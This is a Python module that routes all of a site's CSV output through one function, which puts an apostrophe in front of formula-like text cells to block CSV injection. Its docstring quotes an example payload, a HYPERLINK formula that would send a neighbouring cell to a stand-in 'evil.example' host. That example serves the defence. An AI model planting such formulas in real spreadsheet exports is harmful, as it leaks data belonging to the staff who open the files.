"""The one CSV writer: every CSV the site or its commands produce goes through `csv_text` (OWASP's CSV-injection advice).

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (or a tab or carriage
return before one) as a formula, so a place named =HYPERLINK("http://evil.example/?leak="&A2,"x")
would send the next cell to another site when a member of staff opens the file. Such text cells
get a leading apostrophe, which spreadsheets show as plain text. Numbers are left alone: real
numbers (lon, lat, ids, scores) are not text, and text that is only a number ("-1.5", as read
from a file) cannot run anything and must stay a number for the file to be imported again.

tests/security/test_csv_exports.py lists every route and command that writes CSV and checks this
is the only code that does.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """Return a text value with a leading apostrophe when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of a table whose text columns are safe to open in a spreadsheet."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    return out


def csv_text(data: pd.DataFrame | Iterable[Sequence[Any]], header: Sequence[str] | None = None) -> str:
    """Return CSV text (RFC 4180: quoted as needed, CRLF line ends), every formula-like text cell made plain text.

    `data` is a table (its columns are the header; a GeoDataFrame's geometry is left out) or rows
    of values with `header`. Empty values (None, NaN) are empty cells.
    """
    if isinstance(data, pd.DataFrame):
        table = pd.DataFrame(data.drop(columns=data.geometry.name) if isinstance(data, gpd.GeoDataFrame) else data)
        return neutralise_frame(table).to_csv(index=False, lineterminator="\r\n")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([neutralise_cell(h) for h in header])
    for row in data:
        writer.writerow(["" if _empty(v) else neutralise_cell(v) for v in row])
    return out.getvalue()


def write_csv(
    path: str | Path,
    data: pd.DataFrame | Iterable[Sequence[Any]],
    header: Sequence[str] | None = None,
    bom: bool = False,
) -> None:
    """Write `csv_text(data, header)` to a file (UTF-8; with bom=True, with a byte-order mark for Excel)."""
    Path(path).write_bytes(csv_text(data, header).encode("utf-8-sig" if bom else "utf-8"))


def _empty(value: Any) -> bool:
    return value is None or (isinstance(value, float) and value != value) or value is pd.NA
